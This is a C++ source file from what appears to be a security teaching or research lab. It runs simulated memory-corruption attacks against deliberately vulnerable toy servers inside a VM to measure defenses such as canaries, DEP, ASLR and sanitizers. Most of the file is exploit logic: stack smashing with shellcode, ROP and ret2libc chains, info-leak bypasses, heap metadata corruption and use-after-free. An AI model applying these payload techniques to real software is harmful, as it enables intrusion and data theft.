#include "core/attack_lab.hpp"

#include "attacks/gadgets.hpp"
#include "attacks/payload.hpp"
#include "attacks/shellcode.hpp"
#include "cc/compiler.hpp"
#include "common/error.hpp"
#include "core/image_cache.hpp"
#include "core/scenarios.hpp"
#include "os/process.hpp"
#include "profile/symbolize.hpp"
#include "vm/syscalls.hpp"

namespace swsec::core {

namespace {

using attacks::PayloadBuilder;
using os::Process;
using vm::Sys;
using vm::TrapKind;

constexpr std::uint64_t kMaxSteps = 2'000'000;

/// Step the process until `fd` has produced at least `n` output bytes (or it
/// traps / exhausts the budget).  Used for interactive multi-round attacks.
bool run_until_output(Process& p, int fd, std::size_t n) {
    std::uint64_t steps = 0;
    while (!p.machine().trap().is_set() && p.output_bytes(fd).size() < n &&
           steps++ < kMaxSteps) {
        p.machine().step();
    }
    return p.output_bytes(fd).size() >= n;
}

/// Buffer address passed to the idx-th read() syscall, observed on a probe
/// run of the attacker's own copy.
std::uint32_t observed_read_buffer(Process& probe, std::size_t idx = 0) {
    std::size_t seen = 0;
    for (const auto& rec : probe.kernel().syscall_trace()) {
        if (rec.number == vm::sys_num(Sys::Read)) {
            if (seen++ == idx) {
                return rec.args[1];
            }
        }
    }
    throw Error("probe run performed no matching read() syscall");
}

std::uint32_t le32(const std::vector<std::uint8_t>& v, std::size_t off) {
    return static_cast<std::uint32_t>(v[off]) | (static_cast<std::uint32_t>(v[off + 1]) << 8) |
           (static_cast<std::uint32_t>(v[off + 2]) << 16) |
           (static_cast<std::uint32_t>(v[off + 3]) << 24);
}

bool contains(const std::string& haystack, const std::string& needle) {
    return haystack.find(needle) != std::string::npos;
}

struct Lab {
    const Defense& defense;
    std::uint64_t victim_seed;
    std::uint64_t attacker_seed;
    fault::FaultInjector* victim_faults = nullptr;
    trace::Tracer* victim_tracer = nullptr;
    profile::Profiler* victim_profiler = nullptr;

    // Keeps the memoized image alive for the duration of the attack; every
    // cell used to recompile its scenario from scratch, which dominated the
    // sweep hot path.
    std::shared_ptr<const objfmt::Image> held_image;

    void build(const std::string& src) { held_image = cached_compile(src, defense.copts); }
    // Both processes share the built image (no per-process copy).
    [[nodiscard]] Process victim() const {
        os::SecurityProfile prof = defense.profile;
        prof.fault_injector = victim_faults; // only the deployed machine glitches
        prof.tracer = victim_tracer;         // only the deployed machine is observed
        prof.profiler = victim_profiler;     // ... and profiled
        return Process(held_image, prof, victim_seed);
    }
    [[nodiscard]] Process probe() const {
        return Process(held_image, defense.profile, attacker_seed);
    }

    [[nodiscard]] AttackOutcome finish(Process& v, bool success, std::string note) const {
        AttackOutcome out;
        out.succeeded = success;
        out.trap = v.machine().trap();
        out.note = std::move(note);
        out.steps = v.machine().steps_executed();
        out.text_base = v.layout().text_base;
        out.text_size = v.layout().text_size;
        out.image = held_image;
        if (held_image != nullptr) {
            const profile::SourcePos pos =
                profile::Symbolizer(*held_image, out.text_base).resolve(out.trap.ip);
            if (pos.known) {
                out.trap_sym = pos.function + ":" + std::to_string(pos.line);
            }
        }
        out.dcache_hits = v.machine().decode_cache().hits();
        out.dcache_decodes = v.machine().decode_cache().decodes();
        out.syscall_retries = v.kernel().fault_stats().retries;
        out.io_faults_injected = v.kernel().fault_stats().injected_failures;
        out.sbrk_calls = v.kernel().heap_stats().sbrk_calls;
        out.heap_high_water = v.kernel().heap_stats().high_water;
        const vm::DispatchStats& d = v.machine().dispatch_stats();
        out.tier2_entries = d.tier2_entries;
        out.fast_steps = d.fast_steps;
        out.superinsns_retired = d.superinsns_retired;
        out.deopts = d.deopts();
        const os::KernelSanitizerStats& sa = v.kernel().sanitizer_stats();
        out.asan_shadow_poisons = sa.shadow_poisons;
        out.asan_shadow_unpoisons = sa.shadow_unpoisons;
        out.asan_interceptor_checks = sa.interceptor_checks;
        out.asan_interceptor_traps = sa.interceptor_traps;
        return out;
    }

    // --- SMASH: stack smashing with direct code injection ------------------
    AttackOutcome stack_smash_inject() {
        build(scenarios::fig1_server(32));
        // Reconnaissance: where does buf live?  (Exact under no ASLR.)
        Process pr = probe();
        pr.feed_input("x");
        (void)pr.run(kMaxSteps);
        const std::uint32_t buf = observed_read_buffer(pr);

        // Payload: shellcode at the start of buf, then filler, an optional
        // canary guess, a forged base pointer and the return address
        // pointing back into buf.
        const auto shellcode = attacks::sc_exit(4919);
        PayloadBuilder pb;
        pb.raw(shellcode).fill(16 - shellcode.size());
        if (defense.copts.stack_canaries) {
            pb.word(0); // the attacker must guess the canary; 0 is as good as any
        }
        pb.word(buf).word(buf); // saved bp, return address -> injected code

        Process v = victim();
        v.feed_input(pb.bytes());
        const auto r = v.run(kMaxSteps);
        return finish(v, r.exited(4919), "injected shellcode calls exit(4919)");
    }

    // --- CODEPTR: function-pointer overwrite --------------------------------
    AttackOutcome code_ptr_hijack(bool mid_function) {
        build(scenarios::fnptr_server());
        Process pr = probe();
        // The mid-function variant skips the prologue (push bp; mov bp, sp =
        // 4 bytes): still a working attack on a machine without CFI, but the
        // target is no longer a function entry, so coarse CFI rejects it.
        const std::uint32_t target =
            pr.addr_of("grant_shell") + (mid_function ? 4 : 0);

        PayloadBuilder pb;
        pb.fill(16).word(target);
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "root shell granted");
        return finish(v, ok, mid_function ? "hijacked validate() to mid-function address"
                                          : "hijacked validate() to grant_shell()");
    }

    // --- CODECORR: patch the text segment -----------------------------------
    AttackOutcome code_corruption() {
        build(scenarios::arbwrite_server());
        const objfmt::Image& img = *held_image;
        // The attacker studies its copy of the binary: find the
        // "mov r0, 0" inside check_auth and patch its immediate to 1.
        const auto& sym = img.symbol("check_auth");
        const auto is_reloc_site = [&](std::uint32_t off) {
            for (const auto& rel : img.relocs) {
                if (rel.section == objfmt::SectionKind::Text && rel.offset == off) {
                    return true;
                }
            }
            return false;
        };
        std::uint32_t imm_off = 0;
        for (std::uint32_t off = sym.offset; off + 6 < img.text.size(); ++off) {
            if (img.text[off] == 0xb8 && img.text[off + 1] == 0x00 &&
                img.text[off + 2] == 0 && img.text[off + 3] == 0 && img.text[off + 4] == 0 &&
                img.text[off + 5] == 0 && !is_reloc_site(off + 2)) {
                imm_off = off + 2;
                break;
            }
        }
        if (imm_off == 0) {
            throw Error("could not locate check_auth immediate");
        }
        Process pr = probe();
        const std::uint32_t patch_addr = pr.layout().text_base + imm_off;

        PayloadBuilder pb;
        pb.word(patch_addr).word(1);
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "root shell granted");
        return finish(v, ok, "patched check_auth() to return 1");
    }

    // --- RET2LIBC ------------------------------------------------------------
    AttackOutcome ret2libc() {
        build(scenarios::rop_server());
        Process pr = probe();
        pr.feed_input("x");
        (void)pr.run(kMaxSteps);
        const std::uint32_t grant = pr.addr_of("grant_shell");
        const std::uint32_t exit_fn = pr.addr_of("exit");

        PayloadBuilder pb;
        pb.fill(16);
        if (defense.copts.stack_canaries) {
            pb.word(0); // unknown canary
        }
        pb.word(0xdeadbeef); // forged saved bp
        attacks::RopChain chain;
        // grant_shell() runs, its ret pops exit(); exit reads its code one
        // slot past the junk word.
        chain.gadget(grant).gadget(exit_fn).word(0xcafef00d).word(0);
        return run_chain(pb, chain);
    }

    AttackOutcome run_chain(PayloadBuilder& pb, const attacks::RopChain& chain) {
        for (const std::uint32_t w : chain.words()) {
            pb.word(w);
        }
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "root shell granted");
        return finish(v, ok, "code-reuse chain executed");
    }

    // --- ROP: exfiltrate the API key under DEP -------------------------------
    AttackOutcome rop() {
        build(scenarios::rop_server());
        Process pr = probe();
        pr.feed_input("x");
        (void)pr.run(kMaxSteps);
        const std::uint32_t write_fn = pr.addr_of("write");
        const std::uint32_t exit_fn = pr.addr_of("exit");
        const std::uint32_t key = pr.addr_of("api_key");

        PayloadBuilder pb;
        pb.fill(16);
        if (defense.copts.stack_canaries) {
            pb.word(0);
        }
        pb.word(0xdeadbeef);
        // Entered via ret: write(1, key, 15); its own ret pops the next
        // link; exit(...) terminates.
        pb.word(write_fn).word(exit_fn).word(1).word(key).word(15);

        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "S3CR3T-API-KEY!");
        return finish(v, ok, "ROP chain exfiltrated the API key despite DEP");
    }

    // --- DATAONLY -------------------------------------------------------------
    AttackOutcome data_only() {
        build(scenarios::dataonly_server());
        PayloadBuilder pb;
        pb.fill(16).word(1); // flip isAdmin; no addresses required at all
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "admin: access granted");
        return finish(v, ok, "flipped isAdmin without touching any code pointer");
    }

    // --- INFOLEAK: leak canary + addresses, then bypass [5] -------------------
    AttackOutcome info_leak_bypass() {
        build(scenarios::leak_server());

        // Phase 0 (reconnaissance on the attacker's copy): leak its own
        // stack to learn the *static* relationship between the leaked
        // return address and libc symbols.
        Process pr = probe();
        pr.feed_input("32");
        if (!run_until_output(pr, 1, 32)) {
            Process v = victim(); // probe's leak failed -> report via victim
            v.feed_input("32");
            (void)v.run(kMaxSteps);
            return finish(v, false, "leak primitive unavailable");
        }
        const auto probe_leak = pr.output_bytes(1);
        const std::size_t ret_off = defense.copts.stack_canaries ? 24 : 20;
        const std::uint32_t probe_ret = le32(probe_leak, ret_off);
        const std::uint32_t probe_grant = pr.addr_of("grant_shell");
        const std::uint32_t probe_exit = pr.addr_of("exit");

        // Phase 1: leak the victim's stack.
        Process v = victim();
        v.feed_input("32");
        if (!run_until_output(v, 1, 32)) {
            return finish(v, false, "victim leak blocked");
        }
        const auto leak = v.output_bytes(1);
        const std::uint32_t canary = defense.copts.stack_canaries ? le32(leak, 16) : 0;
        const std::uint32_t saved_bp = le32(leak, ret_off - 4);
        const std::uint32_t leaked_ret = le32(leak, ret_off);
        // Rebase libc symbols using the leaked return address (defeats ASLR).
        const std::uint32_t grant = leaked_ret - probe_ret + probe_grant;
        const std::uint32_t exit_fn = leaked_ret - probe_ret + probe_exit;

        // Phase 2: smash with the *correct* canary and rebased addresses.
        PayloadBuilder pb;
        pb.fill(16);
        if (defense.copts.stack_canaries) {
            pb.word(canary);
        }
        pb.word(saved_bp);
        pb.word(grant).word(exit_fn).word(0xcafef00d).word(0);
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "root shell granted");
        return finish(v, ok, "leaked canary + rebased addresses defeated canary/DEP/ASLR");
    }

    // --- HEAPMETA: heap overflow into allocator metadata ------------------------
    AttackOutcome heap_metadata() {
        build(scenarios::heap_server());
        // Reconnaissance: the write-what-where target.  The forged free-list
        // entry must look like a chunk: *(target-8) >= 16, which the
        // scenario's `pad` global provides (data layout is attacker-known).
        Process pr = probe();
        const std::uint32_t target = pr.addr_of("isAdmin");

        PayloadBuilder pb;
        pb.fill(32);                  // a's 16 bytes + its 16-byte tail gap
        pb.word(64);                  // forged size for b's header
        pb.word(target - 8);          // forged free-list next pointer
        pb.word(1);                   // second read: the value for isAdmin
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "admin: access granted");
        return finish(v, ok, "free-list corruption turned malloc into write-what-where");
    }

    // --- UAF --------------------------------------------------------------------
    AttackOutcome use_after_free() {
        build(scenarios::uaf_server());
        PayloadBuilder pb;
        pb.word(1).word(0); // stale session reads is_admin == 1
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "admin: access granted");
        return finish(v, ok, "heap reuse turned attacker bytes into the freed session");
    }

    // --- HEAPUNDERFLOW: indexed pokes into heap metadata ------------------------
    AttackOutcome heap_underflow() {
        build(scenarios::heap_index_server());
        Process pr = probe();
        const std::uint32_t target = pr.addr_of("isAdmin");

        // Byte pokes at a[36..39] forge b's free-list `next` pointer in
        // place (a's 16 user bytes, its 16-byte tail red zone, then b's
        // [size][next] header).  The red zone is never touched, so a
        // linear-overflow detector sees nothing; only poisoned headers can
        // stop this.  The indexed read a[-8] then leaks a's own size field
        // — the metadata-underflow half of the same blind spot.
        PayloadBuilder pb;
        const std::uint32_t forged = target - 8;
        for (std::uint32_t i = 0; i < 4; ++i) {
            pb.word(36 + i);                      // off: b's `next` field, byte i
            pb.word((forged >> (8 * i)) & 0xff);  // val: that byte of the pointer
        }
        pb.word(static_cast<std::uint32_t>(-8));  // rd: underflow into a's size field
        pb.word(1);                               // write-what-where: isAdmin = 1
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "16\n") &&
                        contains(v.output(), "admin: access granted");
        return finish(v, ok,
                      "indexed pokes skipped the red zone into the neighbour's header; "
                      "p[-8] leaked the chunk size");
    }

    // --- STACKHOP: non-contiguous write hops the canary -------------------------
    AttackOutcome stack_index_hop() {
        build(scenarios::stack_index_server());
        Process pr = probe();
        const std::uint32_t grant = pr.addr_of("grant_shell");

        // Frame layout is attacker-known: buf is handle()'s first local, so
        // the return-address slot [bp+4] sits at buf+20, +4 when a canary
        // slot is interposed and +16 when red zones bracket the array.  The
        // single word write lands on the ret slot without touching the
        // canary or the red zones it hops over — contiguity-based defenses
        // never fire.
        const bool zoned = defense.copts.memcheck || defense.copts.sanitize_address;
        const std::uint32_t off =
            (defense.copts.stack_canaries ? 24U : 20U) + (zoned ? 16U : 0U);

        PayloadBuilder pb;
        pb.word(off).word(grant);
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "root shell granted");
        return finish(v, ok, "offset write hopped the canary onto the return address");
    }

    // --- HEAPOVERREAD: attacker-length echo leaks the neighbour chunk -----------
    AttackOutcome heap_over_read() {
        build(scenarios::heap_leak_server());
        // Echo length 56 spans msg's 16 user bytes, its 16-byte tail red
        // zone, secret's 8-byte header and the 16 secret bytes — a pure
        // READ with no addresses in the payload, so ASLR is irrelevant.
        Process v = victim();
        v.feed_input("56");
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "K3Y-4-HEAP-LEAK");
        return finish(v, ok, "attacker-length echo leaked the neighbouring heap secret");
    }

    // --- HEAPUAFREAD: stale read of a recycled chunk ----------------------------
    AttackOutcome heap_uaf_read() {
        build(scenarios::uaf_read_server());
        PayloadBuilder pb;
        pb.word(0).word(31337).word(0); // req bytes; stale s[1] aliases bytes 4..7
        Process v = victim();
        v.feed_input(pb.bytes());
        (void)v.run(kMaxSteps);
        const bool ok = contains(v.output(), "31337");
        return finish(v, ok, "recycled chunk let a stale read return attacker bytes");
    }
};

} // namespace

std::string attack_name(AttackKind k) {
    switch (k) {
    case AttackKind::StackSmashInject:
        return "smash+inject";
    case AttackKind::CodePtrHijack:
        return "codeptr-hijack";
    case AttackKind::CodePtrHijackMidFn:
        return "codeptr-midfn";
    case AttackKind::CodeCorruption:
        return "code-corruption";
    case AttackKind::Ret2Libc:
        return "ret2libc";
    case AttackKind::Rop:
        return "rop";
    case AttackKind::DataOnly:
        return "data-only";
    case AttackKind::InfoLeakBypass:
        return "infoleak-bypass";
    case AttackKind::UseAfterFree:
        return "use-after-free";
    case AttackKind::HeapMetadata:
        return "heap-metadata";
    case AttackKind::HeapUnderflow:
        return "heap-underflow";
    case AttackKind::StackIndexHop:
        return "stack-hop";
    case AttackKind::HeapOverRead:
        return "heap-overread";
    case AttackKind::HeapUafRead:
        return "heap-uaf-read";
    }
    return "?";
}

const std::vector<AttackKind>& all_attacks() {
    static const std::vector<AttackKind> kinds = {
        AttackKind::StackSmashInject, AttackKind::CodePtrHijack, AttackKind::CodePtrHijackMidFn,
        AttackKind::CodeCorruption,   AttackKind::Ret2Libc,      AttackKind::Rop,
        AttackKind::DataOnly,         AttackKind::InfoLeakBypass, AttackKind::UseAfterFree,
        AttackKind::HeapMetadata,     AttackKind::HeapUnderflow,  AttackKind::StackIndexHop,
        AttackKind::HeapOverRead,     AttackKind::HeapUafRead,
    };
    return kinds;
}

AttackOutcome run_attack(AttackKind kind, const Defense& defense, std::uint64_t victim_seed,
                         std::uint64_t attacker_seed, fault::FaultInjector* victim_faults,
                         trace::Tracer* victim_tracer, profile::Profiler* victim_profiler) {
    Lab lab{defense, victim_seed, attacker_seed, victim_faults, victim_tracer,
            victim_profiler, {}};
    switch (kind) {
    case AttackKind::StackSmashInject:
        return lab.stack_smash_inject();
    case AttackKind::CodePtrHijack:
        return lab.code_ptr_hijack(false);
    case AttackKind::CodePtrHijackMidFn:
        return lab.code_ptr_hijack(true);
    case AttackKind::CodeCorruption:
        return lab.code_corruption();
    case AttackKind::Ret2Libc:
        return lab.ret2libc();
    case AttackKind::Rop:
        return lab.rop();
    case AttackKind::DataOnly:
        return lab.data_only();
    case AttackKind::InfoLeakBypass:
        return lab.info_leak_bypass();
    case AttackKind::UseAfterFree:
        return lab.use_after_free();
    case AttackKind::HeapMetadata:
        return lab.heap_metadata();
    case AttackKind::HeapUnderflow:
        return lab.heap_underflow();
    case AttackKind::StackIndexHop:
        return lab.stack_index_hop();
    case AttackKind::HeapOverRead:
        return lab.heap_over_read();
    case AttackKind::HeapUafRead:
        return lab.heap_uaf_read();
    }
    throw InternalError("unknown attack kind");
}

} // namespace swsec::core
